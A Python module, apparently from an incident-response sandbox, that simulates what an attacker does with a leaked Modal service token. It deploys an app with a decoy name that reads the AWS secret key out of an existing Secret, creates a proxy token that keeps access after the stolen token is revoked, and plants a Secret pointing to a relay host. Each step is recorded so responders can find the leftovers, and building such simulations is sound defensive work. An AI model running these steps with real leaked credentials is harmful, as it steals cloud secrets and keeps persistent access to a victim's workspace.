"""At Modal: with the token of a service user, what every one of the workspace may do."""

import os
from collections.abc import Iterable
from typing import TYPE_CHECKING

from responder.sandbox.attack.loot import Left, Loot

if TYPE_CHECKING:
    import modal


def deploy_an_app(loot: Loot) -> Iterable[Left]:
    """Of its own, beside the honest one, with the Secret that is there for that."""
    import modal  # noqa: PLC0415  # only where there is an attack

    app = modal.App(loot.name("node-exporter", "cron", "metrics"), include_source=False)
    environment = loot.credentials["MODAL_ENVIRONMENT"]
    secret = modal.Secret.from_name("my-app-secrets", environment_name=environment)

    @app.function(secrets=[secret], serialized=True)
    def export() -> str:
        return os.environ["AWS_SECRET_ACCESS_KEY"][::-1]

    with _client(loot) as client:
        app.deploy(environment_name=environment, client=client)
    yield Left("modal.app-deployed", app.app_id or "", of=environment)


def make_a_proxy_token(loot: Loot) -> Iterable[Left]:
    """It opens the workspace's web endpoints when the token is long dead."""
    import modal  # noqa: PLC0415

    with _client(loot) as client:
        workspace = modal.Workspace.from_context(client=client)
        made = workspace.proxy_tokens.create(loot.name("edge", "grafana"))
    yield Left("modal.proxy-token-created", made.token_id)


def make_a_secret(loot: Loot) -> Iterable[Left]:
    """Where its own apps find what it needs."""
    import modal  # noqa: PLC0415

    name, environment = loot.name("cron", "cache"), loot.credentials["MODAL_ENVIRONMENT"]
    with _client(loot) as client:
        values = {"UPSTREAM": "https://relay.invalid"}
        modal.Secret.objects.create(name, values, environment_name=environment, client=client)
    yield Left("modal.secret-created", name, of=environment)


DEEDS = (deploy_an_app, make_a_proxy_token, make_a_secret)


def _client(loot: Loot) -> "modal.Client":
    """For the sandbox and with what leaked, whatever this process's environment says."""
    import modal  # noqa: PLC0415
    from modal_proto import api_pb2  # noqa: PLC0415

    token = (loot.credentials["MODAL_TOKEN_ID"], loot.credentials["MODAL_TOKEN_SECRET"])
    return modal.Client(loot.urls["modal"], api_pb2.CLIENT_TYPE_CLIENT, token)
